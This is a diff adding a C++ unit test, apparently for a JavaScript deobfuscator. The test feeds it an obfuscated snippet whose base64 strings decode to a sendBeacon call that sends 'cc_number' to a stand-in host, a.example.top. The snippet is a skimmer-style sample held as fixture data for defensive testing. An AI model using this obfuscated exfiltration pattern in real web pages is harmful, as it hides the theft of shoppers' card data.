@@ -86,6 +86,19 @@ TEST(JsStringArray, OlderReleasesAndWrappersAndAliases) {
   EXPECT_NE(out.find("xhr['send']('a')"), std::string::npos) << out;
 }
 
+TEST(JsStringArray, HandMadeArrayDecodedWithAtob) {
+  // A hand-made array in the obfuscator's shape whose decoder runs each entry through atob().
+  std::string js =
+      "function _s(){var a=['c2VuZEJlYWNvbg==','aHR0cHM6Ly9hLmV4YW1wbGUudG9wL2M=','Y2NfbnVtYmVy'];"
+      "_s=function(){return a;};return _s();}"
+      "function _g(i,k){var a=_s();_g=function(j,m){j=j-0x10;var v=a[j];v=atob(v);return v;};"
+      "return _g(i,k);}navigator[_g(0x10)](_g(0x11),_g(0x12));";
+  std::string out = Resolved(js);
+  EXPECT_NE(out.find("navigator['sendBeacon']('https://a.example.top/c','cc_number')"),
+            std::string::npos)
+      << out;
+}
+
 TEST(JsStringArray, OrdinaryArraysAndFunctionsAreLeftAlone) {
   bool changed = true;
   std::string js = "var days=['mon','tue'];function day(i){return days[i];}show(day(1));";
